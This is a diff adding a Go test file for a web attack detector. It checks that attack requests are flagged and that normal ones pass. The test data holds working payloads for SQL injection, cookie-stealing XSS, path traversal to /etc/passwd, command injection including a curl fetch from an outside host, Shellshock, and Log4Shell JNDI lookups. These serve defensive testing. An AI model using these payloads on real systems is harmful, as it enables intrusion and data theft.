@@ -1,0 +1,175 @@
+package webattack
+
+import (
+	"net/url"
+	"strings"
+	"testing"
+)
+
+// classes are the verdicts of at least that score, as words.
+func classes(e *Eye, r Request, score int) string {
+	var words []string
+	for _, v := range e.Inspect(r) {
+		if v.Score >= score {
+			words = append(words, v.Class.String()+" in "+string(v.Parameter))
+		}
+	}
+	return strings.Join(words, ", ")
+}
+
+func TestInspectFindsAttacks(t *testing.T) {
+	tests := []struct{ target, want string }{
+		{"/a?id=1'%20OR%20'1'='1", "sqli in id"},
+		{"/a?x=1&id=-1+union+select+1,2,password+from+users", "sqli in id"},
+		{"/a?id=1%2527%2520and%2520sleep(5)%2523", "sqli in id"},
+		{"/a?id=1/**/UnIoN/**/SeLeCt/**/1,2", "sqli in id"},
+		{"/a?id=7;waitfor+delay+'0:0:5'--", "sqli in id"},
+		{"/a?q=%u0027%20or%201=1--", "sqli in q"},
+		{"/a?q=<script>alert(1)</script>", "xss in q"},
+		{"/a?q=%22+onmouseover%3dalert(1)+x%3d%22", "xss in q"},
+		{"/a?q=%26lt%3Bscript%26gt%3Balert(1)%26lt%3B/script%26gt%3B", "xss in q"},
+		{"/a?q=javascript:alert(document.cookie)", "xss in q"},
+		{"/%3Cscript%3Ealert(1)%3C/script%3E", "xss in url.path"},
+		{"/a?%3Cscript%3Ealert(1)=1", "xss in <script>alert(1)"},
+		{"/a?f=../../../etc/passwd", "traversal in f, sensitive_file in f"},
+		{"/a/..%2f..%2f..%2f..%2fx", "traversal in url.path"},
+		{"/a?f=..%c0%af..%c0%af..%c0%afx", "traversal in f"},
+		{"/a?h=1;id", "cmdi in h"},
+		{"/a?h=%60whoami%60", "cmdi in h"},
+		{"/a?h=x%26%26c%27a%27t+/etc/hosts", "cmdi in h, sensitive_file in h"},
+		{"/a?h=$(curl+http://192.0.2.1/x)", "cmdi in h"},
+		{"/a?f=php://filter/resource=x", "inclusion in f"},
+		{"/a?c=phpinfo()", "code in c"},
+		{"/a?c={{7*7}}", "ssti in c"},
+		{"/a?c=$%7Bjndi:ldap://192.0.2.1/a%7D", "log4shell in c"},
+		{"/.env", "sensitive_file in url.path"},
+	}
+	e := New()
+	for _, tt := range tests {
+		if got := classes(e, Request{Target: []byte(tt.target)}, likely); got != tt.want {
+			t.Errorf("%s: %q, want %q", tt.target, got, tt.want)
+		}
+	}
+}
+
+func TestInspectLetsHonestRequestsPass(t *testing.T) {
+	e := New()
+	for _, target := range []string{
+		"/", "", "/index.html?a=1&b=2", "/people/O%27Brien?name=O%27Brien", "/search?q=select+a+hotel+from+our+list",
+		"/search?q=rock+%26+roll", "/search?q=1+%2B+1+%3D+2", "/a?token=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2ln", "/a?d=2026-03-02T09:00:00%2B01:00",
+		"/a?json=%7B%22id%22%3A1%2C%22name%22%3A%22x%22%7D", "/a?url=https%3A%2F%2Fexample.org%2Fpath%3Fa%3Db", "/a?path=C%3A%5CUsers%5Cbob%5CDocuments",
+		"/a?filter%5Bprice%5D%5Blt%5D=100", "/a?email=a.b%2Bc%40example.org", "/a?q=%EC%95%88%EB%85%95+%ED%95%98%EC%84%B8%EC%9A%94", "/a?q=%ED%95%9C%EA%B5%AD%27s",
+		"/a?range=1..5", "/a/b/../c", "/wiki/C%2B%2B", "/wiki/Foo_(bar)", "/a?fields=id%7Cname%7Cdate", "/a?b64=QUJD%2BDEF%2FGHI%3D%3D", "/a?q=drop+me+a+line",
+		"/a?q=5+or+6+people", "/a?q=%22exact+phrase%22", "/a?size=10%25", "/a?ids=1,2,3;4", "/a?lat=48.1&lon=-11.5",
+	} {
+		if got := classes(e, Request{Target: []byte(target)}, likely); got != "" {
+			t.Errorf("%s: %s", target, got)
+		}
+	}
+}
+
+func TestHeaders(t *testing.T) {
+	e := New()
+	tests := []struct {
+		agent, referrer, want string
+	}{
+		{"Mozilla/5.0 (X11; Linux x86_64; rv:127.0) Gecko/20100101 Firefox/127.0", "https://example.org/?q=it%27s", ""},
+		{"Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)", "-", ""},
+		{"sqlmap/1.8", "-", "scanner in user_agent.original"},
+		{"() { :;}; /bin/id", "-", "cmdi in user_agent.original"},
+		{"${jndi:dns://192.0.2.1}", "-", "log4shell in user_agent.original"},
+		{"x", "${${env:NaN:-j}ndi:ldap://192.0.2.1/}", "log4shell in http.request.referrer"},
+	}
+	for _, tt := range tests {
+		if got := classes(e, Request{Target: []byte("/"), UserAgent: []byte(tt.agent), Referrer: []byte(tt.referrer)}, likely); got != tt.want {
+			t.Errorf("%s, %s: %q, want %q", tt.agent, tt.referrer, got, tt.want)
+		}
+	}
+}
+
+func TestCleanRequestsAllocateNothing(t *testing.T) {
+	e := New()
+	r := cleanRequest()
+	if n := testing.AllocsPerRun(100, func() { e.Inspect(r) }); n > 0 {
+		t.Errorf("%v allocations", n)
+	}
+}
+
+func cleanRequest() Request {
+	return Request{
+		Target:    []byte("/catalog/shoes?colour=red&size=42&page=2"),
+		Referrer:  []byte("https://www.example.org/catalog"),
+		UserAgent: []byte("Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36"),
+	}
+}
+
+func BenchmarkClean(b *testing.B) {
+	e, r := New(), cleanRequest()
+	b.ReportAllocs()
+	for b.Loop() {
+		if len(e.Inspect(r)) > 0 {
+			b.Fatal("a verdict")
+		}
+	}
+}
+
+func BenchmarkAttack(b *testing.B) {
+	e, r := New(), cleanRequest()
+	r.Target = []byte("/item?id=-7%27+UNION+ALL+SELECT+name,pass+FROM+accounts--")
+	b.ReportAllocs()
+	for b.Loop() {
+		e.Inspect(r)
+	}
+}
+
+func BenchmarkHostile64KiB(b *testing.B) {
+	e := New()
+	for name, text := range map[string]string{"dots": "../", "quotes": "'", "words": "select ", "brackets": "${", "escapes": "%25", "pipes": "|a"} {
+		r := Request{Target: []byte("/a?x=" + strings.Repeat(text, maxInspected/len(text)))}
+		b.Run(name, func(b *testing.B) {
+			for b.Loop() {
+				e.Inspect(r)
+			}
+		})
+	}
+}
+
+func FuzzInspect(f *testing.F) {
+	f.Add("/a?id=1%2527%20or%201=1", "https://example.org/", "Mozilla/5.0")
+	f.Add("/..%c0%af?x=%u0027&y=%26lt%3b", "${jndi:x}", "() { :;};")
+	f.Add("/a?x=;c'a't+/etc/passwd|id", "", "sqlmap")
+	e, fresh := New(), New()
+	f.Fuzz(func(t *testing.T, target, referrer, agent string) {
+		r := Request{Target: []byte(target), Referrer: []byte(referrer), UserAgent: []byte(agent)}
+		before := classes(e, r, 1)
+		if again := classes(fresh, r, 1); again != before {
+			t.Fatalf("an eye remembers: %q, then %q", before, again)
+		}
+		if string(r.Target) != target {
+			t.Fatal("the request was changed")
+		}
+		if strings.Contains(target, "#") || before == "" {
+			return
+		}
+		joint := "&"
+		if !strings.Contains(target, "?") {
+			joint = "?"
+		}
+		r.Target = []byte(target + joint + "benign=" + url.QueryEscape("a b"))
+		if more := classes(e, r, 1); len(target) < maxInspected/2 && more != before {
+			t.Fatalf("a benign parameter changes verdicts: %q, then %q", before, more)
+		}
+	})
+}
+
+func FuzzDecode(f *testing.F) {
+	f.Add([]byte("%2527+%u0041%c0%ae&lt;"))
+	f.Fuzz(func(t *testing.T, text []byte) {
+		var d decoder
+		got := d.decode(text, true)
+		if len(got) > len(text) {
+			t.Errorf("%q grows to %q", text, got)
+		}
+		d.entities(got)
+	})
+}
